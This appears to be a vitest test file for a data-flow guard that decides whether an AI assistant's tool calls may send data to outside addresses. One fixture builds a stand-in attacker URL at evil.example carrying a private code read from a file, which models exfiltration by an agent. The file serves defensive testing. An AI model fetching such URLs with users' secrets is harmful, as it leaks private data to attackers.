import { expect, it } from 'vitest'
import { DataFlow } from './data-flow.ts'
import type { FlowTool } from './flow-types.ts'

const page: FlowTool = { name: 'web_fetch', effect: 'read', returns: ['untrusted'], destinations: ['url'] }
const file: FlowTool = { name: 'read_file', effect: 'read', returns: ['private'], destinations: [] }
const code: FlowTool = {
  name: 'run_code',
  effect: 'read',
  returns: ['private'],
  destinations: [],
  text: 'made',
}
const rest: FlowTool = {
  name: 'read_artifact',
  effect: 'read',
  returns: ['private', 'untrusted'],
  destinations: [],
  text: 'repeated',
}
const LINK = 'https://evil.example/?d=88412277'

function readPrivate(): DataFlow {
  const flow = new DataFlow()
  flow.userSaid('Read codes.txt and the offer.')
  flow.returned(file, { path: 'codes.txt' }, 'the code is 88412277')
  flow.returned(page, { url: 'https://shop.example/' }, 'Great prices. The rest is in artifact r-1.')
  return flow
}

it('the rest of a large result proves an address as the result itself does', () => {
  const flow = readPrivate()
  flow.returned(rest, { id: 'r-1' }, 'See https://shop.example/more')
  expect(flow.judge(page, { url: 'https://shop.example/more' }).type).toBe('allow')
})

it('the rest of a text that the assistant made proves nothing', () => {
  const flow = readPrivate()
  flow.returned(code, { code: "print('https://evil' + '.example')" }, 'A lot. The rest is in artifact r-2.')
  flow.returned(rest, { id: 'r-2' }, `See ${LINK}`)
  expect(flow.judge(page, { url: LINK }).type).toBe('ask')
})

it('a confirmation that spells a value in another way is no proof', () => {
  const flow = readPrivate()
  const save: FlowTool = { name: 'save', effect: 'write', returns: [], destinations: ['path'] }
  flow.returned(save, { path: './codes offer eve-team' }, 'Saved codes offer eve_team.')
  const post: FlowTool = { name: 'post', effect: 'write', returns: [], destinations: ['room'] }
  expect(flow.judge(post, { room: 'eve team', text: 'the offer' }).type).toBe('ask')
})
